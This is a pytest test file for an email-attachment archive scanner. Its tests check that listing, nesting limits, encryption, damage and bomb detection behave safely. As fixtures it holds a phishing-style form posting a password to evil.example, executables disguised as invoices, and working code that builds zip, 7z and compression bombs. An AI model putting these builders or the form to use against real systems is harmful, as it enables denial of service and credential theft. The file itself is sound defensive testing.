"""Archives: listed, looked into one level, and never unpacked further than bounds allow."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import time
import tracemalloc
import zlib
from collections.abc import Callable

import pytest
from tests.mail.attached.written import (
    PE,
    iso,
    pdf,
    rar4,
    rar5,
    seven_zip,
    seven_zip_around,
    words,
    zipped,
    zipped_as,
)

from madoguchi.mail.attached import open_file
from madoguchi.mail.attached.opened import Opened
from madoguchi.model import FileTrait

PAGE = b'<html><form action="https://evil.example/x"><input name=p></form></html>'


def opened(content: bytes, name: str = "a") -> Opened:
    return open_file(content, name, "application/octet-stream")


def tarred(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


WRITERS: dict[str, Callable[[dict[str, bytes]], bytes]] = {
    "zip": zipped,
    "tar": tarred,
    "tar.gz": lambda files: gzip.compress(tarred(files)),
    "tar.bz2": lambda files: bz2.compress(tarred(files)),
    "tar.xz": lambda files: lzma.compress(tarred(files)),
    "rar4": rar4,
    "rar5": rar5,
    "iso": iso,
    "7z": lambda files: seven_zip(list(files)),
    "7z, header packed": lambda files: seven_zip(list(files), packed_header=True),
}


@pytest.mark.parametrize("kind", WRITERS)
def test_the_names_are_listed_and_what_runs_is_told(kind: str) -> None:
    found = opened(WRITERS[kind]({"請求書.exe": PE, "読んで.txt": b"x"}))
    assert set(found.holds) == {"請求書.exe", "読んで.txt"}
    assert FileTrait.RUNS_INSIDE in found.traits
    assert FileTrait.RUNS not in found.traits
    assert FileTrait.ENCRYPTED not in found.traits


@pytest.mark.parametrize("kind", WRITERS)
def test_harmless_files_make_no_trait(kind: str) -> None:
    found = opened(WRITERS[kind]({"見積.xlsx": b"a", "写真.jpg": b"b"}))
    assert found.traits == ({FileTrait.MOUNTS} if kind == "iso" else frozenset())


@pytest.mark.parametrize("kind", ["zip", "tar", "tar.gz", "iso"])
def test_a_page_in_an_archive_is_read(kind: str) -> None:
    found = opened(WRITERS[kind]({"login.html": PAGE}))
    assert [link.host for link in found.links] == ["evil.example"]
    assert FileTrait.ASKS in found.traits


def test_a_program_under_the_name_of_a_document_in_an_archive() -> None:
    found = opened(zipped({"請求書.pdf": PE}))
    assert found.traits == {FileTrait.RUNS_INSIDE, FileTrait.TYPE_DIFFERS}


def test_sources_of_a_program_are_not_what_shall_be_opened() -> None:
    few = opened(zipped({"view.js": b"x"}))
    many = opened(zipped({f"src/{n}.js": b"x" for n in range(30)}))
    assert FileTrait.RUNS_INSIDE in few.traits
    assert FileTrait.RUNS_INSIDE not in many.traits


@pytest.mark.parametrize("charset", ["cp932", "utf-8"])
def test_names_are_decoded_by_what_they_are(charset: str) -> None:
    names = ["御請求書（十一月分）.pdf", "お振込先のご案内.docx"]
    found = opened(zipped_as([name.encode(charset) for name in names]))
    assert list(found.holds) == names


@pytest.mark.parametrize(
    "content",
    [
        zipped({"a.doc": b"x"}, encrypted=True),
        rar4({"a.doc": b"x"}, encrypted=True),
        rar5({"a.doc": b"x"}, encrypted=True),
        seven_zip(["a.doc"], method=b"\x06\xf1\x07\x01"),
    ],
)
def test_locked_archives_still_tell_their_names(content: bytes) -> None:
    found = opened(content)
    assert found.holds == ("a.doc",)
    assert found.traits == {FileTrait.ENCRYPTED}


@pytest.mark.parametrize("content", [rar4({"a": b"x"}, locked=True), rar5({}, locked=True)])
def test_archives_that_lock_their_names_too(content: bytes) -> None:
    found = opened(content)
    assert found.holds == ()
    assert found.traits == {FileTrait.ENCRYPTED}


def test_a_zip_without_its_directory_is_listed_by_the_headers_of_its_files() -> None:
    whole = zipped({"a.exe": PE, "b.txt": b"y"})
    found = opened(whole[: whole.index(b"PK\x01\x02")])
    assert found.holds == ("a.exe", "b.txt")
    assert [defect.id for defect in found.defects] == ["zip-directory-broken"]


def test_octets_in_front_of_a_zip_do_not_hide_its_files() -> None:
    inside = zipped({"login.html": PAGE})
    found = opened(b"PK\x03\x04" + bytes(26) + inside)
    assert [link.host for link in found.links] == ["evil.example"]


def test_an_empty_zip_is_no_damage_and_a_torn_one_is() -> None:
    assert opened(zipped({})).traits == frozenset()
    assert opened(b"PK\x03\x04" + bytes(9)).traits == {FileTrait.DAMAGED}


def test_one_archive_in_another_is_opened_and_a_third_is_not() -> None:
    inner = zipped({"a.exe": PE, "b.txt": b"x"})
    assert opened(zipped({"in.zip": inner})).holds == ("in.zip", "in.zip/a.exe", "in.zip/b.txt")
    third = opened(zipped({"out.zip": zipped({"in.zip": inner, "note.txt": b"x"})}))
    assert [defect.id for defect in third.defects] == ["archive-too-deep"]
    assert FileTrait.BOMB not in third.traits
    assert (
        FileTrait.BOMB in opened(zipped({"c": zipped({"b.zip": zipped({"a.zip": inner})})})).traits
    )


def test_a_pdf_in_a_zip_is_read() -> None:
    found = opened(zipped({"a.pdf": pdf(content=words("see https://evil.example/pay now"))}))
    assert [link.url for link in found.links] == ["https://evil.example/pay"]


def overlapping(count: int) -> bytes:
    """Every entry of the directory is one and the same file (Fifield, "A better zip bomb")."""
    packed = zlib.compress(bytes(10_000_000), 9)[2:-4]
    local = struct.pack(
        "<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0, 0, len(packed), 10_000_000, 1, 0
    )
    body = local + b"a" + packed
    entry = struct.pack(
        "<4s6H3L5H2L",
        b"PK\x01\x02",
        20,
        20,
        0,
        8,
        0,
        0,
        0,
        len(packed),
        10_000_000,
        1,
        0,
        0,
        0,
        0,
        0,
        0,
    )
    directory = (entry + b"a") * count
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(directory), len(body), 0)
    return body + directory + end


def nested(depth: int) -> bytes:
    content = b"x" * 100
    for level in range(depth):
        content = zipped({f"{level}.zip" if level else "x.txt": content})
    return content


def zeros(size: int) -> bytes:
    stream = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(stream.compress(bytes(1 << 20)) for _ in range(size >> 20)) + stream.flush()


BOMBS = {
    "a file of zeros": zipped({"a.bin": bytes(70_000_000)}),
    "overlapping entries": overlapping(1000),
    "archives without end": nested(40),
    "a gigabyte of zeros": zeros(1 << 30),
    "bzip2 of zeros": bz2.compress(bytes(30_000_000)),
    "xz of zeros": lzma.compress(bytes(30_000_000)),
    "7z that claims terabytes": seven_zip(["a.bin"], size=1 << 44),
}


@pytest.mark.parametrize("story", BOMBS)
def test_a_bomb_is_told_and_costs_nothing(story: str) -> None:
    begun = time.process_time()
    tracemalloc.start()
    found = opened(BOMBS[story])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert FileTrait.BOMB in found.traits
    assert time.process_time() - begun < 1
    assert peak < 40_000_000


def test_large_files_that_are_no_bombs() -> None:
    log = b"".join(
        b"2026-11-03 10:%02d:00 request %d\n" % (n % 60, n * 7919) for n in range(90_000)
    )
    for content in (zipped({"a.log": log}), gzip.compress(log)):
        assert FileTrait.BOMB not in opened(content).traits


@pytest.mark.parametrize(
    "header",
    [
        b"\x01\x05" + b"\xff" + b"\xff" * 8,  # so many files
        b"\x01\x04\x07\x0b" + b"\xff" + b"\x7f" * 8,  # so many folders
        b"\x17\x06\0\x01\x09\x04\0\x07\x0b\x01\0\x01\x23\x03\x01\x01\x05\x5d\xff\xff\xff\xff"
        b"\x0c\xff" + b"\x7f" * 8 + b"\0\0",  # a header that unpacks to exabytes
        b"\x02",
    ],
)
def test_a_7z_header_that_claims_what_cannot_be_is_damage(header: bytes) -> None:
    begun = time.process_time()
    assert opened(seven_zip_around(b"abcd", header)).traits == {FileTrait.DAMAGED}
    assert time.process_time() - begun < 0.5


def test_a_7z_whose_header_would_stand_beyond_its_end_is_damage() -> None:
    assert opened(seven_zip_around(b"", b"", claims=1 << 50)).traits == {FileTrait.DAMAGED}


def test_a_directory_without_end_is_cut() -> None:
    found = opened(zipped({f"{n}.txt": b"" for n in range(3000)}))
    assert len(found.holds) == 100
    assert [defect.id for defect in found.defects] == ["archive-cut"]


@pytest.mark.parametrize("mark", [b"conectix", b"vhdxfile"])
def test_other_images_of_disks_mount(mark: bytes) -> None:
    assert opened(mark + bytes(2000)).traits == {FileTrait.MOUNTS}
    assert opened(bytes(2000) + mark).traits == frozenset()
